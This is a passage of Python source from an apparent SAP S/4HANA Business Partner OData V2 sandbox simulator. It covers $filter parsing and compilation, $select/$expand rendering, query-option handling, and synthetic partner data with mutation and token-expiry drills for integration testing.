        suffix = text[-1].lower() if text[-1].isalpha() else ""
        digits = text[:-1] if suffix else text
        if suffix in ("m", "d", "f") or "." in digits or "e" in digits.lower():
            return _Node("lit", tok.pos, float(digits), "Edm.Decimal" if suffix == "m" else "Edm.Double")
        return _Node("lit", tok.pos, int(digits), "Edm.Int64" if suffix == "l" else "Edm.Int32")
    prefix, _, rest = tok.text.partition("'")
    body = rest[:-1].replace("''", "'")
    if prefix == "datetime":
        return _Node("lit", tok.pos, _parse_datetime_literal(body, False, tok.pos), "Edm.DateTime")
    if prefix == "datetimeoffset":
        return _Node("lit", tok.pos, _parse_datetime_literal(body, True, tok.pos), "Edm.DateTimeOffset")
    if prefix == "time":
        try:
            return _Node("lit", tok.pos, parse_wire_time(body), "Edm.Time")
        except ValueError:
            raise _bad_request(f"Invalid literal '{body}' at position {tok.pos} in $filter") from None
    try:
        return _Node("lit", tok.pos, str(uuid.UUID(body)), "Edm.Guid")
    except ValueError:
        raise _bad_request(f"Invalid literal '{body}' at position {tok.pos} in $filter") from None


class _FilterParser:
    """Recursive-descent parser for the OData V2 ``$filter`` subset the sandbox supports."""

    def __init__(self, text: str) -> None:
        self.tokens = _tokenize(text)
        self.i = 0

    def parse(self) -> _Node:
        if not self.tokens:
            raise _bad_request("$filter is empty")
        node = self._or()
        if self.i < len(self.tokens):
            tok = self.tokens[self.i]
            raise _bad_request(f"Invalid token '{tok.text}' at position {tok.pos} in $filter")
        return node

    def _peek(self) -> _Tok | None:
        return self.tokens[self.i] if self.i < len(self.tokens) else None

    def _keyword(self, *words: str) -> _Tok | None:
        tok = self._peek()
        if tok is not None and tok.kind == "ident" and tok.text in words:
            self.i += 1
            return tok
        return None

    def _expect(self, kind: str) -> _Tok:
        tok = self._peek()
        if tok is None or tok.kind != kind:
            where = f"position {tok.pos}" if tok else "the end"
            raise _bad_request(f"Syntax error in $filter at {where}: expected '{_PUNCT.get(kind, kind)}'")
        self.i += 1
        return tok

    def _binary(self, sub: Callable[[], _Node], *ops: str) -> _Node:
        node = sub()
        while (tok := self._keyword(*ops)) is not None:
            node = _Node("bin", tok.pos, name=tok.text, args=[node, sub()])
        return node

    def _or(self) -> _Node:
        return self._binary(self._and, "or")

    def _and(self) -> _Node:
        return self._binary(self._equality, "and")

    def _equality(self) -> _Node:
        return self._binary(self._relational, "eq", "ne")

    def _relational(self) -> _Node:
        return self._binary(self._unary, "gt", "ge", "lt", "le")

    def _unary(self) -> _Node:
        tok = self._keyword("not")
        if tok is not None:
            return _Node("not", tok.pos, args=[self._unary()])
        return self._primary()

    def _primary(self) -> _Node:
        tok = self._peek()
        if tok is None:
            raise _bad_request("Syntax error in $filter: unexpected end of expression")
        self.i += 1
        if tok.kind == "open":
            node = self._or()
            self._expect("close")
            return node
        if tok.kind in ("string", "number", "typed"):
            return _literal(tok)
        if tok.kind == "ident":
            if tok.text in ("true", "false"):
                return _Node("lit", tok.pos, tok.text == "true", "Edm.Boolean")
            if tok.text == "null":
                return _Node("lit", tok.pos, None, "null")
            nxt = self._peek()
            if nxt is not None and nxt.kind == "open" and "/" not in tok.text:
                self.i += 1
                args: list[_Node] = []
                if (after := self._peek()) is not None and after.kind == "close":
                    self.i += 1
                else:
                    args.append(self._or())
                    while (sep := self._peek()) is not None and sep.kind == "comma":
                        self.i += 1
                        args.append(self._or())
                    self._expect("close")
                return _Node("call", tok.pos, name=tok.text, args=args)
            return _Node("member", tok.pos, name=tok.text)
        raise _bad_request(f"Invalid token '{tok.text}' at position {tok.pos} in $filter")


_PUNCT = {"close": ")", "open": "(", "comma": ","}
_Fn = Callable[[int], Any]


def _compatible(a: str, b: str) -> bool:
    if a == "null" or b == "null" or a == b:
        return True
    return a in _NUMERIC and b in _NUMERIC


def _date_part(name: str) -> Callable[[int], int]:
    attr = name

    def part(ms: int) -> int:
        value: int = getattr(datetime.fromtimestamp(ms / 1000, tz=UTC), attr)
        return value

    return part


class _FilterCompiler:
    """Type-checks a parsed ``$filter`` against an entity set and compiles it to ``row -> bool``."""

    def __init__(self, tables: Mapping[str, _Table], table: _Table) -> None:
        self.tables = tables
        self.table = table

    def compile(self, text: str) -> _Fn:
        """A predicate over row indices of ``self.table``."""
        node = _FilterParser(text).parse()
        edm, fn, _const = self._expr(node)
        if edm not in ("Edm.Boolean", "null"):
            raise _bad_request("$filter must be a boolean expression")
        return fn

    def member(self, path: str, pos: int, what: str = "$filter") -> tuple[str, _Fn]:
        """Typed accessor for a property path (single-valued navigations allowed)."""
        table = self.table
        hops: list[list[Any]] = []
        segments = path.split("/")
        for segment in segments[:-1]:
            nav = table.etype.nav.get(segment)
            if nav is None:
                raise _bad_request(f"Property '{segment}' is invalid in {what} (Position: {pos})")
            if nav.many:
                raise _bad_request(f"Navigation property '{segment}' is not single-valued; it cannot be used in {what}")
            hops.append(table.links[segment])
            table = self.tables[nav.target]
        name = segments[-1]
        prop = table.etype.prop.get(name)
        if prop is None:
            kind = "Navigation property" if name in table.etype.nav else "Property"
            raise _bad_request(f"{kind} '{name}' is invalid in {what} (Position: {pos})")
        column = table.typed_column(name)
        if not hops:
            return prop.edm, column.__getitem__
        if len(hops) == 1:
            links = hops[0]
            return prop.edm, lambda i: column[j] if (j := links[i]) >= 0 else None

        def walk(i: int) -> Any:
            j = i
            for links in hops:
                j = links[j]
                if j < 0:
                    return None
            return column[j]

        return prop.edm, walk

    def _expr(self, node: _Node) -> tuple[str, _Fn, tuple[bool, Any]]:
        """(edm type, accessor, (is_constant, constant value))."""
        if node.kind == "lit":
            value = node.value
            return node.edm, (lambda i: value), (True, value)
        if node.kind == "member":
            edm, fn = self.member(node.name, node.pos)
            return edm, fn, (False, None)
        if node.kind == "not":
            edm, fn, _ = self._expr(node.args[0])
            if edm != "Edm.Boolean":
                raise _param_type_error("not", node.pos)
            return "Edm.Boolean", lambda i: not fn(i), (False, None)
        if node.kind == "call":
            return self._call(node)
        return self._binary(node)

    def _binary(self, node: _Node) -> tuple[str, _Fn, tuple[bool, Any]]:
        op = node.name
        left_edm, left, left_const = self._expr(node.args[0])
        right_edm, right, right_const = self._expr(node.args[1])
        if op in ("and", "or"):
            if left_edm != "Edm.Boolean" or right_edm != "Edm.Boolean":
                raise _param_type_error(op, node.pos)
            if op == "and":
                return "Edm.Boolean", lambda i: bool(left(i)) and bool(right(i)), (False, None)
            return "Edm.Boolean", lambda i: bool(left(i)) or bool(right(i)), (False, None)
        if not _compatible(left_edm, right_edm):
            raise _param_type_error(op, node.pos)
        if left_const[0] and not right_const[0]:
            # Put the literal on the right: "datetime'..' le X" is "X ge datetime'..'".
            op = {"gt": "lt", "ge": "le", "lt": "gt", "le": "ge"}.get(op, op)
            left, right, left_const, right_const = right, left, right_const, left_const
        if right_const[0]:
            return "Edm.Boolean", _compare_const(op, left, right_const[1]), (False, None)
        return "Edm.Boolean", _compare_dynamic(op, left, right), (False, None)

    def _call(self, node: _Node) -> tuple[str, _Fn, tuple[bool, Any]]:
        name = node.name
        arity = (
            _BOOL_FUNCS.get(name)
            or _STRING_FUNCS.get(name)
            or (1 if name in _DATE_PART_FUNCS or name == "length" else None)
        )
        if arity is None:
            raise _bad_request(f"Function '{name}' is not supported (Position: {node.pos})")
        if len(node.args) != arity:
            raise _bad_request(f"Function '{name}' expects {arity} argument(s) (Position: {node.pos})")
        compiled = [self._expr(arg) for arg in node.args]
        if name in _DATE_PART_FUNCS:
            edm, fn, _ = compiled[0]
            if edm not in ("Edm.DateTime", "Edm.DateTimeOffset"):
                raise _param_type_error(name, node.pos)
            part = _date_part(name)
            return "Edm.Int32", lambda i: None if (v := fn(i)) is None else part(v), (False, None)
        if any(edm not in ("Edm.String", "null") for edm, _, _ in compiled):
            raise _param_type_error(name, node.pos)
        fns = [fn for _, fn, _ in compiled]
        if name == "length":
            only = fns[0]
            return "Edm.Int32", lambda i: None if (v := only(i)) is None else len(v), (False, None)
        if name in _STRING_FUNCS:
            only = fns[0]
            method = _STRING_METHODS[name]
            return "Edm.String", lambda i: None if (v := only(i)) is None else method(v), (False, None)
        a, b = fns
        if name == "substringof":
            return (
                "Edm.Boolean",
                lambda i: (x := a(i)) is not None and (y := b(i)) is not None and x in y,
                (False, None),
            )
        if name == "startswith":
            return (
                "Edm.Boolean",
                lambda i: (x := a(i)) is not None and (y := b(i)) is not None and x.startswith(y),
                (False, None),
            )
        return (
            "Edm.Boolean",
            lambda i: (x := a(i)) is not None and (y := b(i)) is not None and x.endswith(y),
            (False, None),
        )


def _compare_const(op: str, fn: _Fn, value: Any) -> _Fn:
    """Comparison with a literal; null compares equal only to null, and never orders."""
    if value is None:
        if op == "eq":
            return lambda i: fn(i) is None
        if op == "ne":
            return lambda i: fn(i) is not None
        return lambda i: False
    if op == "eq":
        return lambda i: fn(i) == value
    if op == "ne":
        return lambda i: fn(i) != value
    if op == "gt":
        return lambda i: (x := fn(i)) is not None and x > value
    if op == "ge":
        return lambda i: (x := fn(i)) is not None and x >= value
    if op == "lt":
        return lambda i: (x := fn(i)) is not None and x < value
    return lambda i: (x := fn(i)) is not None and x <= value


def _compare_dynamic(op: str, left: _Fn, right: _Fn) -> _Fn:
    if op == "eq":
        return lambda i: left(i) == right(i)
    if op == "ne":
        return lambda i: left(i) != right(i)
    compare: Callable[[Any, Any], bool] = {"gt": operator.gt, "ge": operator.ge, "lt": operator.lt, "le": operator.le}[
        op
    ]
    return lambda i: (x := left(i)) is not None and (y := right(i)) is not None and compare(x, y)


# ============================================================================================
# $select / $expand shapes and rendering
# ============================================================================================


@dataclass
class _SelectNode:
    """Parsed ``$select`` for one entity type: ``star`` or named properties and navigations."""

    star: bool = False
    props: set[str] = field(default_factory=set)
    #: nav name -> None when selected by name (everything below), or the node for paths below it
    navs: dict[str, _SelectNode | None] = field(default_factory=dict)


@dataclass
class _Shape:
    """What to render for one entity type: property positions and navigation handling."""

    table: _Table
    names: tuple[str, ...]
    positions: tuple[int, ...] | None  # None = every property in schema order
    navs: list[tuple[str, _Shape | None, bool]]  # (name, expanded shape or None=deferred, many)


def _parse_expand(text: str, etype: EntityType, tables: Mapping[str, _Table]) -> dict[str, Any]:
    tree: dict[str, Any] = {}
    for item in (part.strip() for part in text.split(",")):
        if not item:
            raise _bad_request("Empty item in $expand")
        node, current = tree, etype
        for segment in item.split("/"):
            nav = current.nav.get(segment)
            if nav is None:
                raise _bad_request(f"Navigation property '{segment}' is invalid in $expand for type '{current.name}'")
            node = node.setdefault(segment, {})
            current = tables[nav.target].etype
    return tree


def _parse_select(text: str, etype: EntityType, tables: Mapping[str, _Table]) -> _SelectNode:
    root = _SelectNode()
    for item in (part.strip() for part in text.split(",")):
        if not item:
            raise _bad_request("Empty item in $select")
        node, current = root, etype
        segments = item.split("/")
        for depth, segment in enumerate(segments):
            last = depth == len(segments) - 1
            if last and segment == "*":
                node.star = True
            elif last and segment in current.prop:
                node.props.add(segment)
            elif segment in current.nav:
                if last:
                    node.navs[segment] = None
                    break
                existing = node.navs.get(segment, _SelectNode())
                if existing is None:
                    break  # already selected as a whole
                node.navs[segment] = existing
                node = existing
                current = tables[current.nav[segment].target].etype
            else:
                raise _bad_request(f"Property '{segment}' is invalid in $select for type '{current.name}'")
    return root


def _build_shape(
    table: _Table, select: _SelectNode | None, expand: Mapping[str, Any], tables: Mapping[str, _Table]
) -> _Shape:
    etype = table.etype
    if select is None or select.star:
        names, positions = etype.names, None
    else:
        chosen = [p for p in etype.props if p.name in select.props]
        names = tuple(p.name for p in chosen)
        positions = tuple(etype.index[p.name] for p in chosen)
    navs: list[tuple[str, _Shape | None, bool]] = []
    for nav in etype.navs:
        if select is None or (select.star and nav.name not in select.navs):
            shown, below = True, None
        elif nav.name in select.navs:
            shown, below = True, select.navs[nav.name]
        else:
            shown, below = False, None
        if not shown:
            continue
        target = tables[nav.target]
        if nav.name in expand:
            navs.append((nav.name, _build_shape(target, below, expand[nav.name], tables), nav.many))
        elif below is not None:
            raise _bad_request(f"Navigation property '{nav.name}' must be expanded to select properties below it")
        else:
            navs.append((nav.name, None, nav.many))
    return _Shape(table, names, positions, navs)


def _renderer(shape: _Shape, service_url: str) -> Callable[[int], dict[str, Any]]:
    """Compile a shape into ``render(row_index) -> dict`` for one response (absolute URIs)."""
    table = shape.table
    rows = table.rows
    key_path = table.key_path
    type_name = table.etype.qualified
    names = shape.names
    positions = shape.positions
    getter: Callable[[tuple[Any, ...]], Any] | None
    if positions is None:
        getter = None
    elif len(positions) == 1:
        only = positions[0]
        getter = lambda row: (row[only],)  # noqa: E731 - itemgetter of one index returns a scalar
    elif positions:
        getter = itemgetter(*positions)
    else:
        getter = lambda row: ()  # noqa: E731
    etag_at = table.etype.index["ETag"] if table.etype.has_etag else -1
    navs = [
        (name, None if sub is None else _renderer(sub, service_url), many, table.links[name])
        for name, sub, many in shape.navs
    ]

    def render(i: int) -> dict[str, Any]:
        row = rows[i]
        uri = service_url + key_path(row)
        metadata = {"id": uri, "uri": uri, "type": type_name}
        if etag_at >= 0:
            metadata["etag"] = f"W/\"'{row[etag_at]}'\""
        out: dict[str, Any] = {"__metadata": metadata}
        out.update(zip(names, row if getter is None else getter(row), strict=False))
        for name, sub, many, links in navs:
            if sub is None:
                out[name] = {"__deferred": {"uri": f"{uri}/{name}"}}
            elif many:
                out[name] = {"results": [sub(j) for j in links[i]]}
            else:
                j = links[i]
                out[name] = sub(j) if j >= 0 else None
        return out

    return render


# ============================================================================================
# Query options
# ============================================================================================

_SYSTEM_OPTIONS = frozenset(
    {"$filter", "$select", "$expand", "$orderby", "$top", "$skip", "$skiptoken", "$inlinecount", "$format"}
)


@dataclass
class _Query:
    filter: str | None = None
    select: str | None = None
    expand: str | None = None
    orderby: str | None = None
    top: int | None = None
    skip: int = 0
    skiptoken: str | None = None
    inlinecount: bool = False


def _parse_query(req: SandboxRequest) -> _Query:
    query = _Query()
    seen: set[str] = set()
    for name, value in req.query:
        if not name.startswith("$"):
            continue  # custom options such as sap-client / sap-language
        if name not in _SYSTEM_OPTIONS:
            raise _bad_request(f"System query option '{name}' is not supported")
        if name in seen:
            raise _bad_request(f"System query option '{name}' is specified more than once")
        seen.add(name)
        if name in ("$top", "$skip"):
            if not value.isdigit():
                raise _bad_request(f"Invalid value '{value}' for system query option '{name}'")
            if name == "$top":
                query.top = int(value)
            else:
                query.skip = int(value)
        elif name == "$inlinecount":
            if value not in ("allpages", "none"):
                raise _bad_request(f"Invalid value '{value}' for system query option '$inlinecount'")
            query.inlinecount = value == "allpages"
        elif name == "$filter":
            query.filter = value.strip()
        elif name == "$select":
            query.select = value.strip() or None
        elif name == "$expand":
            query.expand = value.strip() or None
        elif name == "$orderby":
            query.orderby = value.strip() or None
        elif name == "$skiptoken":
            query.skiptoken = value
    return query


def _wants_json(req: SandboxRequest) -> bool:
    fmt = req.query_get("$format")
    if fmt is not None:
        return fmt.lower() == "json"
    return "application/json" in (req.headers.get("accept") or "").lower()


def _negotiate(req: SandboxRequest) -> None:
    """Data responses are JSON only: atom/XML requests get 406 (documented limitation)."""
    fmt = req.query_get("$format")
    if fmt is not None and fmt.lower() not in ("json", "atom", "xml"):
        raise _bad_request(f"Invalid value '{fmt}' for system query option '$format'")
    if not _wants_json(req):
        raise ODataError(
            406,
            _CODE_NOT_ACCEPTABLE,
            "The sandbox serves OData JSON only: send $format=json or Accept: application/json",
        )


_KEY_SEEK_RE = re.compile(r"(?:(?P<rest>.+) and )?(?P<key>[A-Za-z_]\w*) gt '(?P<value>(?:[^']|'')*)'")
_RESOURCE_RE = re.compile(
    r"(?P<set>[A-Za-z_]\w*)(?:\((?P<key>(?:'(?:[^']|'')*'|[^()'])*)\))?(?:/(?P<nav>[A-Za-z_]\w*))?(?:/(?P<count>\$count))?/?"
)
_KEY_PAIR_RE = re.compile(r"\s*(?:(?P<name>[A-Za-z_]\w*)\s*=\s*)?'(?P<value>(?:[^']|'')*)'\s*")


def _parse_key(etype: EntityType, text: str) -> tuple[str, ...]:
    values: dict[str, str] = {}
    pos = 0
    while pos < len(text):
        match = _KEY_PAIR_RE.match(text, pos)
        if match is None:
            raise _bad_request(f"Invalid key predicate '({text})' for '{etype.set_name}'")
        name = match.group("name")
        if name is None:
            if len(etype.keys) != 1 or values:
                raise _bad_request(f"Invalid key predicate '({text})' for '{etype.set_name}'")
            name = etype.keys[0]
        if name not in etype.keys or name in values:
            raise _bad_request(f"Invalid key property '{name}' for '{etype.set_name}'")
        values[name] = match.group("value").replace("''", "'")
        pos = match.end()
        if pos < len(text):
            if text[pos] != ",":
                raise _bad_request(f"Invalid key predicate '({text})' for '{etype.set_name}'")
            pos += 1
    if set(values) != set(etype.keys):
        raise _bad_request(f"Key predicate '({text})' must name {', '.join(etype.keys)}")
    return tuple(values[k] for k in etype.keys)


_QUERY_SAFE = "$'(),:/*@!;"
_PATH_SAFE = "/()$,='"


def _encode_query(pairs: Iterable[tuple[str, str]]) -> str:
    return "&".join(f"{quote(k, safe='$')}={quote(v, safe=_QUERY_SAFE)}" for k, v in pairs)


# ============================================================================================
# The sandbox
# ============================================================================================

_MODIFYING = frozenset({"POST", "PUT", "PATCH", "MERGE", "DELETE"})
_RESULT_CACHE_SIZE = 32
_MUTATION_KINDS: Final = ("phone", "email", "block", "name_fix", "address", "archive")
_MUTATION_WEIGHTS: Final = (25, 15, 20, 20, 15, 5)
#: Which dirty reasons a mutation of a given kind repairs.
_CURES: Final = {
    "phone": {"invalid_phone"},
    "email": {"invalid_email"},
    "name_fix": {"missing_name", "untrimmed_name"},
    "address": {"invalid_postal_code", "unknown_country"},
}
_ETAG_AT = _BPX["ETag"]
_ICF_404 = (
    "<html><head><title>Service cannot be reached</title></head><body>"
    "<h2>404 Not Found</h2><p>Service cannot be reached. What has happened? "
    "URL call was terminated because the corresponding service is not available.</p></body></html>"
)


@dataclass
class _Session:
    """A CSRF session: token bound to a session cookie and the user who fetched it."""

    token: str
    user: str
    expires_at: float


@dataclass
class _AccessToken:
    client_id: str
    user: str
    expires_at: float


class SapSandbox(Simulator):
    """Simulator of SAP S/4HANA ``API_BUSINESS_PARTNER`` (OData V2).

    Data is generated from ``seed`` (same seed and size give byte-identical data); change
    stamps lie before the fixed :data:`ANCHOR_DATE`, and :meth:`mutate`/:meth:`add_partners`
    stamp records with the sandbox clock. ``dirty_ids`` maps each deliberately dirty
    partner to its :data:`DIRTY_KINDS` reason.
    """

    name = "sap"

    def __init__(
        self,
        seed: int = 42,
        partners: int = 10_000,
        max_page_size: int = 1000,
        username: str = "DRYMIX_INT",
        password: str = "sandbox-secret",
        client_id: str = "drymix-hub",
        client_secret: str = "sandbox-client-secret",
        token_ttl_s: int = 3600,
        csrf_ttl_s: int = 1800,
        changes_on_start: int = 0,
        clock: Callable[[], datetime] | None = None,
        *,
        faults: FaultSwitches | Mapping[str, Any] | None = None,
        sap_client: str = "100",
        system_id: str = "S4H",
    ) -> None:
        super().__init__(faults=faults)
        if partners < 0 or max_page_size < 1:
            raise ValueError("partners must be >= 0 and max_page_size >= 1")
        self.seed = seed
        self.max_page_size = max_page_size
        self.username = username
        self.password = password
        self.client_id = client_id
        self.client_secret = client_secret
        self.token_ttl_s = token_ttl_s
        self.csrf_ttl_s = csrf_ttl_s
        self.sap_client = sap_client
        self.session_cookie = f"SAP_SESSIONID_{system_id}_{sap_client}"
        self._clock = clock or (lambda: datetime.now(UTC))
        self._clock_offset = timedelta(0)
        #: BusinessPartner id -> reason code (see DIRTY_KINDS) for every deliberately dirty partner.
        self.dirty_ids: dict[str, str] = {}
        self.tables: dict[str, _Table] = {t.set_name: _Table(t) for t in ENTITY_TYPES}
        self._bp = self.tables["A_BusinessPartner"]
        self._version = 0
        self._results: OrderedDict[tuple[Any, ...], list[int] | range] = OrderedDict()
        self._tokens: dict[str, _AccessToken] = {}
        self._sessions: OrderedDict[str, _Session] = OrderedDict()
        self._generator = _Generator(seed)
        self._metadata = _metadata_xml().encode()
        self._txn = 0
        started = time.perf_counter()
        self._build(partners)
        logger.info(
            "SAP sandbox: %d partners (seed %d, %d dirty) built in %.2fs",
            partners,
            seed,
            len(self.dirty_ids),
            time.perf_counter() - started,
        )
        if changes_on_start:
            self.mutate(changes_on_start, rng_seed=time.time_ns())

    # -- public helpers ------------------------------------------------------------------------

    def now(self) -> datetime:
        """The sandbox clock (aware UTC), including any offset set through the control API."""
        current = self._clock()
        if current.tzinfo is None:
            raise ValueError("the sandbox clock must return timezone-aware datetimes")
        return current.astimezone(UTC) + self._clock_offset

    def advance_clock(self, seconds: float) -> datetime:
        """Move the sandbox clock forward (token and CSRF expiry drills); returns the new now."""
        with self.lock:
            self._clock_offset += timedelta(seconds=seconds)
            return self.now()

    @property
    def partner_count(self) -> int:
        """Number of business partners currently served."""
        return len(self._bp.rows)

    def partner_ids(self) -> list[str]:
        """All BusinessPartner ids in key order."""
        return [row[0] for row in self._bp.rows]

    def get_partner(self, partner_id: str) -> dict[str, Any]:
        """One partner's ``A_BusinessPartner`` properties in wire format (for tests and demos)."""
        index = self._bp.find((partner_id,))
        if index is None:
            raise KeyError(partner_id)
        return dict(zip(BP_TYPE.names, self._bp.rows[index], strict=True))

    def set_raw_field(self, partner_id: str, name: str, value: Any) -> None:
        """Overwrite one ``A_BusinessPartner`` property with any JSON value, unvalidated.

        A drill for schema drift and bad data (a date in the wrong format, a number where a
        string belongs). Change stamps are left alone, so the raw value is exactly what is served.
        """
        if name not in BP_TYPE.prop or name in BP_TYPE.keys:
            raise ValueError(f"{name!r} is not a non-key property of {BP_TYPE.name}")
        _dumps(value)  # must be serialisable, or every later page would fail
        with self.lock:
            index = self._bp.find((partner_id,))
            if index is None:
                raise KeyError(partner_id)
            row = list(self._bp.rows[index])
            row[_BPX[name]] = value
            self._bp.replace(index, tuple(row))
            self._version += 1
            self._results.clear()

    def etag_of(self, partner_id: str) -> str:
        """Current ETag (as sent in ``__metadata.etag`` and the ``ETag`` header) of a partner."""
        return _etag_header(self.get_partner(partner_id)["ETag"])

    def expire_tokens(self, kind: str = "all") -> dict[str, int]:
        """Invalidate issued OAuth access tokens and/or CSRF sessions right now."""
        if kind not in ("all", "oauth", "csrf"):
            raise ValueError("kind must be 'all', 'oauth' or 'csrf'")
        with self.lock:
            expired = {"oauth_tokens": 0, "csrf_sessions": 0}
            if kind in ("all", "oauth"):
                expired["oauth_tokens"] = len(self._tokens)
                self._tokens.clear()
            if kind in ("all", "csrf"):
                expired["csrf_sessions"] = len(self._sessions)
                self._sessions.clear()
            logger.info("SAP sandbox: expired %s", expired)
            return expired

    # -- data building -------------------------------------------------------------------------

    def _build(self, partners: int) -> None:
        # Generation allocates millions of small objects that all survive; pausing the cyclic
        # collector meanwhile halves the build time.
        with _gc_paused():
            self._append_partners(0, partners, stamp=None)
        # The rows were allocated while the collector was paused and all sit in generation 0.
        # Collecting it now untracks the atom-only tuples, once, instead of during the first
        # request (and keeps later full collections cheap).
        gc.collect(0)

    def _append_partners(self, start: int, count: int, stamp: datetime | None) -> list[str]:
        added: list[str] = []
        end = start + count
        for block_no in range(start // _BLOCK, (end - 1) // _BLOCK + 1 if count else 0):
            base = block_no * _BLOCK
            chosen = [p for offset, p in enumerate(self._generator.block(block_no)) if start <= base + offset < end]
            if stamp is not None:
                for partner in chosen:
                    partner.thaw()
                    self._stamp_new(partner, stamp)
                    partner.freeze()
            added.extend(self._store(chosen))
        for table in self.tables.values():
            table.invalidate()
        self._refresh_duplicate_gstins()
        self._version += 1
        return added

    def _store(self, partners: Sequence[_Partner]) -> list[str]:
        """Append generated partners to every table and wire up the navigation links."""
        tables = self.tables
        bp_rows = self._bp.rows
        customer_rows = tables["A_Customer"].rows
        tax_rows = tables["A_BusinessPartnerTaxNumber"].rows
        addr_table = tables["A_BusinessPartnerAddress"]
        addr_rows = addr_table.rows
        email_rows = tables["A_AddressEmailAddress"].rows
        phone_rows = tables["A_AddressPhoneNumber"].rows
        to_customer = self._bp.links["to_Customer"]
        to_tax = self._bp.links["to_BusinessPartnerTax"]
        to_address = self._bp.links["to_BusinessPartnerAddress"]
        to_email = addr_table.links["to_EmailAddress"]
        to_phone = addr_table.links["to_PhoneNumber"]
        to_mobile = addr_table.links["to_MobilePhoneNumber"]
        ids: list[str] = []
        for partner in partners:
            bp_id: str = partner.bp[0]
            ids.append(bp_id)
            bp_rows.append(partner.bp)
            if partner.customer is not None:
                to_customer.append(len(customer_rows))
                customer_rows.append(partner.customer)
            else:
                to_customer.append(-1)
            first = len(tax_rows)
            tax_rows.extend(partner.taxes)
            to_tax.append(_span(first, len(tax_rows)))
            first_address = len(addr_rows)
            for addr, emails, phones, mobiles in partner.addresses:
                addr_rows.append(addr)
                first = len(email_rows)
                email_rows.extend(emails)
                to_email.append(_span(first, len(email_rows)))
                first = len(phone_rows)
                phone_rows.extend(phones)
                to_phone.append(_span(first, len(phone_rows)))
                first = len(phone_rows)
                phone_rows.extend(mobiles)
                to_mobile.append(_span(first, len(phone_rows)))
            to_address.append(_span(first_address, len(addr_rows)))
            if partner.dirty is not None:
                self.dirty_ids[bp_id] = partner.dirty
        return ids

    def _stamp_new(self, partner: _Partner, stamp: datetime) -> None:
        """Partners added at run time are created (and last changed) now."""
        day, secs = wire_day(stamp.date().toordinal()), wire_time(_seconds_of_day(stamp))
        bp = partner.bp
        for name, value in (
            ("CreationDate", day),
            ("CreationTime", secs),
            ("LastChangeDate", day),
            ("LastChangeTime", secs),
        ):
            bp[_BPX[name]] = value
        bp[_BPX["CreatedByUser"]] = bp[_BPX["LastChangedByUser"]] = self.username
        bp[_ETAG_AT] = _make_etag(stamp, 0)
        if partner.customer is not None:
            partner.customer[_CUX["CreationDate"]] = day
            partner.customer[_CUX["CreatedByUser"]] = self.username
        for addr, *_ in partner.addresses:
            addr[_ADX["ValidityStartDate"]] = wire_dto_day(stamp.date().toordinal())

    def _refresh_duplicate_gstins(self) -> None:
        """Label ``duplicate_gstin`` from the data actually served (pairs may span additions)."""
        tax_rows = self.tables["A_BusinessPartnerTaxNumber"].rows
        at_number, at_partner = _TXX["BPTaxNumber"], _TXX["BusinessPartner"]
        owners: dict[str, set[str]] = {}
        for row in tax_rows:
            number = row[at_number]
            if number and len(number) == 15:
                owners.setdefault(number, set()).add(row[at_partner])
        shared = {pid for ids in owners.values() if len(ids) > 1 for pid in ids}
        for pid, reason in list(self.dirty_ids.items()):
            if reason == "duplicate_gstin" and pid not in shared:
                del self.dirty_ids[pid]
        for pid in shared:
            self.dirty_ids.setdefault(pid, "duplicate_gstin")

    # -- changing data -------------------------------------------------------------------------

    def add_partners(self, n: int) -> list[str]:
        """Append ``n`` new partners (deterministic content, created now); returns their ids."""
        if n < 0:
            raise ValueError("n must be >= 0")
        with self.lock:
            added = self._append_partners(len(self._bp.rows), n, stamp=self.now())
            self._results.clear()
            logger.info("SAP sandbox: added %d partners", len(added))
            return added

    def mutate(self, count: int, rng_seed: int | None = None) -> list[str]:
        """Change ``count`` random partners (phone, e-mail, block flag, name fix, address, archive).

        Each changed partner gets ``LastChangeDate``/``LastChangeTime`` = sandbox now and a new
        ETag. ``rng_seed`` makes the choice reproducible; by default it differs per call.
        """
        if count < 0:
            raise ValueError("count must be >= 0")
        rng = random.Random(rng_seed if rng_seed is not None else time.time_ns())
        with self.lock:
            total = len(self._bp.rows)
            picks = rng.sample(range(total), min(count, total))
            stamp = self.now()
            kind_cum = tuple(sum(_MUTATION_WEIGHTS[: i + 1]) for i in range(len(_MUTATION_WEIGHTS)))
            changed = []
            for index in picks:
                kind = _MUTATION_KINDS[bisect_right(kind_cum, rng.random() * kind_cum[-1])]
                self._mutate_one(index, kind, rng, stamp)
                changed.append(self._bp.rows[index][0])
            self._version += 1
            self._results.clear()
            logger.info("SAP sandbox: changed %d partners at %s", len(changed), stamp.isoformat())
            return changed

    def _mutate_one(self, index: int, kind: str, rng: random.Random, stamp: datetime) -> None:
        tables = self.tables
        bp = list(self._bp.rows[index])
        bp_id = bp[0]
        addresses = self._bp.links["to_BusinessPartnerAddress"][index]
        cust_index = self._bp.links["to_Customer"][index]
        customer = list(tables["A_Customer"].rows[cust_index]) if cust_index >= 0 else None
        if kind in ("phone", "email", "address") and not addresses:
            kind = "block"
        r = rng.random
        if kind == "phone":
            self._new_mobile(addresses[0], r)
        elif kind == "email":
            self._new_email(addresses[0], bp, r)
        elif kind == "address":
            addr_table = tables["A_BusinessPartnerAddress"]
            addr = list(addr_table.rows[addresses[0]])
            addr[_ADX["StreetName"]] = _STREETS[int(r() * len(_STREETS))]
            addr[_ADX["HouseNumber"]] = f"{1 + int(r() * 250)}"
            foreign = {code: cities[0][2] for code, cities in _FOREIGN}
            if addr[_ADX["Country"]] not in foreign:
                addr[_ADX["Country"]] = "IN"
            postal = addr[_ADX["PostalCode"]] or ""
            if addr[_ADX["Country"]] in foreign:
                addr[_ADX["PostalCode"]] = foreign[addr[_ADX["Country"]]]
            elif not (len(postal) == 6 and postal.isdigit() and postal[0] != "0"):
                addr[_ADX["PostalCode"]] = f"{400001 + int(r() * 99)}"
            addr_table.replace(addresses[0], tuple(addr))
        elif kind == "block":
            blocked = not bp[_BPX["BusinessPartnerIsBlocked"]]
            bp[_BPX["BusinessPartnerIsBlocked"]] = blocked
            if customer is not None:
                customer[_CUX["OrderIsBlockedForCustomer"]] = "01" if blocked else ""
        elif kind == "archive":
            bp[_BPX["IsMarkedForArchiving"]] = True
            if customer is not None:
                customer[_CUX["DeletionIndicator"]] = True
        else:
            self._fix_name(bp, customer, addresses, r)
        if bp_id in self.dirty_ids and self.dirty_ids[bp_id] in _CURES.get(kind, ()):
            del self.dirty_ids[bp_id]
        if customer is not None:
            tables["A_Customer"].replace(cust_index, tuple(customer))
        self._touch(bp, self.username, stamp)
        self._bp.replace(index, tuple(bp))

